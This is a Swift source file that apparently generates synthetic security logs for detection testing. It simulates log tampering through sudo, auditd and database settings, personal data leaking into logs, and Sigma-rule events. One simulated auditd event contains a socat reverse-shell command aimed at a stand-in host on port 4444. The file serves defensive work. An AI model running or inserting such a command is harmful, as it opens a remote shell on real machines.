extension Attack {
    mutating func logTampering() {
        incident.succeeded = true
        var time = incident.start
        let account = random.pick(profile.administrators + ["root"])
        // auditd knows numbers, not names.
        if turn % 4 != 1, turn % 4 != 2 { incident.accounts = [account] }
        switch turn % 4 {
        case 0:
            incident.variant = "sudo"
            let source: Source = random.chance(0.5) ? .hostAuthentication : .databaseHost
            for _ in 0..<random.within(1...3) {
                world.sudo(source, time, account, path(random.pick(profile.tampering)), incident)
                pass(&time, 30)
            }
        case 1, 2:
            incident.variant = "auditd"
            for _ in 0..<random.within(1...4) {
                world.executed(time, account == "root" ? 0 : 1_000 + account.utf8.count, random.pick(profile.tampering), asRoot: true, incident)
                pass(&time, 30)
            }
        default:
            incident.variant = "the database's own log switched off"
            incident.addresses = [profile.bastion]
            if turn % 8 == 3 {
                var session = world.postgresSession(time, account, profile.bastion, program: "psql")
                world.postgresConnect(time, &session, incident)
                world.postgresStatement(
                    time + 9 * second, &session,
                    random.pick(profile.postgresqlTampering), incident)
                world.postgresStatement(time + 14 * second, &session, "SELECT pg_reload_conf()", incident)
            } else {
                let thread = world.session()
                world.mariadbConnect(time, thread, account, profile.bastion, incident)
                world.mariadb(
                    time + 9 * second, thread, "Query",
                    random.pick(profile.mariadbTampering), incident)
                world.mariadb(time + 14 * second, thread, "Quit", "", incident)
            }
        }
    }

    /// sudo writes whole paths.
    private func path(_ command: String) -> String { "/usr/bin/" + command }

    /// A release that writes what it must not: numbers of persons in addresses, until it is mended.
    mutating func personalDataInLog() {
        incident.succeeded = true
        let total = count(150...2_500)
        let length = Moment(random.within(10...80)) * hour
        let template = profile.leaks[turn % profile.leaks.count]
        incident.variant = turn % 5 == 4 ? "in statements" : template
        for _ in 0..<total {
            let time = incident.start + Moment(random.below(Int(length)))
            if turn % 5 == 4 {
                var session = world.postgresSession(
                    time, profile.applicationRoles[0], profile.applicationServers[0], program: "PostgreSQL JDBC Driver")
                session.line = 3 + random.below(90)
                world.postgresStatement(
                    time, &session, "SELECT id FROM \(profile.sensitiveTables[0]) WHERE id_card = '\(Names.identityNumber(&random))'", incident)
            } else {
                let host = random.chance(0.4) ? random.pick(world.carriers) : world.space.any("CN", &random)
                request(
                    turn % 3 == 0, time,
                    Request(
                        address: host, path: world.fill(template, id: 0, &random, at: time), bytes: random.within(60...900),
                        agent: random.pick(profile.apiAgents)))
            }
            incident.persons += 1
        }
    }

    /// What only the rules beside this world know.
    mutating func sigma() {
        incident.succeeded = true
        let rule = profile.rules[turn % profile.rules.count]
        incident.rule = rule.id
        incident.variant = rule.file
        var time = incident.start
        if turn % profile.rules.count == 0 {
            let host = address()
            for _ in 0..<random.within(3...30) {
                request(
                    random.chance(0.5), time,
                    Request(
                        address: host, path: world.fill(profile.sigmaRequest, id: 0, &random, at: time), bytes: random.within(200...4_000),
                        agent: random.pick(Names.desktopAgents)))
                pass(&time, 20)
            }
        } else if profile.name == "tuning" {
            for _ in 0..<random.within(1...4) {
                world.executed(time, 1_007, "socat exec:'bash',pty tcp:198.51.100.9:4444", asRoot: true, incident)
                pass(&time, 60)
            }
        } else {
            let host = address()
            for _ in 0..<random.within(2...9) {
                world.system(
                    .bastion, time, "sshd", process: world.session() % 60_000 + 700,
                    "error: kex_exchange_identification: client sent invalid protocol identifier \"\" from \(host)", incident)
                pass(&time, 30)
            }
        }
    }
}
